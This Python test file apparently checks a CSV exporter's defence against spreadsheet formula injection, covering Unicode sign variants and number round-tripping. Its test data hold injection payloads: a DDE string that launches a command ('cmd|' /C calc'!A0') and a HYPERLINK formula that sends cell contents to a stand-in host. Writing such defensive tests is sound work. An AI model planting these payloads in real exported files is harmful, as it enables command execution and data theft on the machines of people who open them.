"""CSV that a spreadsheet opens: no cell is a formula, however it is spelled; numbers stay numbers, texts read back."""

import csv
import io
import re
import unicodedata
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from harness.system.console import visible
from reports import spreadsheet as made
from reports.grid import Entry, Grid, Head, Line
from reports.spreadsheet import spreadsheet

SIGNS = [*"=+-@", *"＝＋－＠", *"﹦﹢﹣﹫", *"⁺⁼₊₌", "−"]
BEFORE = [
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\u00a0",
    "\u3000",
    '"',
    "'",
    "“",
    "\ufeff",
    "\u200b",
    "\u202e",
    "\0",
    " \"'",
]
FORMULAS = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://e?"&A1,"x")', "SUM(1;2)", 'DDE("a";"b";"c")']
SPELLINGS = [f"{before}{sign}{formula}" for before in BEFORE for sign in SIGNS for formula in FORMULAS]
SPELLINGS += [f"x{parting}{spelt}" for parting in (";", "; ", ';"') for spelt in SPELLINGS[::7]]


def cells_as_opened(line: str, parting: str) -> list[str]:
    """The cells as a spreadsheet parts them, each without blanks, quotes and unseen signs before it."""
    (row,) = csv.reader([line], delimiter=parting)
    return [re.sub(r"^[\s\"“]+", "", unicodedata.normalize("NFKC", cell)) for cell in row]


def live(text: str) -> bool:
    """Whether the cell is a formula wherever commas or semicolons part cells."""
    file = io.StringIO()
    csv.writer(file, lineterminator="").writerow(["a", spreadsheet(text), "b"])
    opened = [cell for parting in ",;" for cell in cells_as_opened(file.getvalue(), parting)]
    return any(cell.startswith(("=", "+", "-", "@", "−")) for cell in opened)


def test_no_spelling_is_a_formula() -> None:
    assert [text for text in SPELLINGS if live(text)] == []


def test_without_the_apostrophe_they_are(monkeypatch: pytest.MonkeyPatch) -> None:
    """But those behind a sign that is spelled out, like a tab's <U+0009>."""
    monkeypatch.setattr(made, "FORMULA", re.compile("(?!)()"))
    assert sum(map(live, SPELLINGS)) > 500


def test_the_signs_are_all_that_unicode_has() -> None:
    forms = [sign for sign in map(chr, range(0x11000)) if unicodedata.normalize("NFKC", sign)[:1] in (*"=+-@", "−")]
    assert all(spreadsheet(f"{sign}1+1") == f"'{sign}1+1" for sign in forms)


@given(st.text(max_size=30))
@settings(max_examples=300, deadline=None)
def test_no_text_is_a_formula(text: str) -> None:
    assert not live(text)


@pytest.mark.parametrize("text", ["plain", "a-b", "nSFT (turns=random)", "1.5", "漢字", "", "a; b", "it's"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert spreadsheet(text) == text


def test_numbers_stay_numbers_and_cells_read_back() -> None:
    numbers = Entry(value=-1.25, delta=-0.5, low=-2.0, high=1e-9)
    grid = Grid("T", ("row",), (Head("=h"),), (Line(("-2+3",), (numbers,)),), ("=note",))
    rows = list(csv.DictReader(io.StringIO(made.table(grid), newline="")))
    assert [float(rows[0][name]) for name in ("value", "delta", "ci_lo", "ci_hi")] == [-1.25, -0.5, -2.0, 1e-9]
    assert (rows[0]["row"], rows[0]["column"], rows[1]["text"]) == ("'-2+3", "'=h", "'=note")
    for hostile in SPELLINGS[::11]:
        spoilt = replace(grid, notes=(hostile,))
        (*_, last) = csv.DictReader(io.StringIO(made.table(spoilt), newline=""))
        assert last["text"] == spreadsheet(hostile)


@given(st.lists(st.sampled_from([*SIGNS, *BEFORE, ";", "a", " ", "1"])).map("".join))
def test_who_is_no_spreadsheet_reads_the_text_as_it_was(text: str) -> None:
    assert made.unguarded(spreadsheet(text)) == visible(text)
